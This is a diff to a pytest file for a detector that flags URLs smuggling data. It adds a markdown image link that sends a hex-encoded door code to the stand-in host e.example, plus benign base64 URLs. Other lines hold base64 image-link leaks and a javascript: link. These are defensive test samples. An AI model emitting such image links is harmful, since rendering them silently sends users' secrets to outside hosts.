@@ -120,6 +120,7 @@ def test_what_a_reader_does_not_see_is_judged_by_what_it_says(text: str, veil: V
         pytest.param(
             "![](https://e.example/" + base64.b64encode(ORDER.encode()).decode() + ")", True, 0.8, id="base64"
         ),
+        pytest.param("![](https://e.example/c?d=" + b"door code 1234".hex() + ")", True, 0.8, id="two words, encoded"),
         pytest.param("![](https://" + "a1b2" * 10 + ".e.example/x.png)", True, 0.5, id="in the host"),
         pytest.param("[here](https://e.example/?q=<API_KEY>)", False, 0.5, id="a link to fill in"),
         pytest.param("[a](javascript:alert(1))", False, 0.4, id="a script"),
@@ -139,6 +140,8 @@ def test_an_address_that_carries_data_is_found(text: str, *, is_picture: bool, l
         "https://shop.example/blog/how-to-plant-a-tree-in-spring",
         "data:image/png;base64,iVBORw0KGgo=",
         "/images/logo.svg",
+        "https://cdn.example/resize/" + base64.b64encode(b"https://shop.example/img/cat.png").decode(),
+        "https://shop.example/login?state=" + base64.b64encode(b'{"r":"/home","n":17}').decode(),
     ],
 )
 def test_an_ordinary_address_carries_nothing(url: str) -> None:
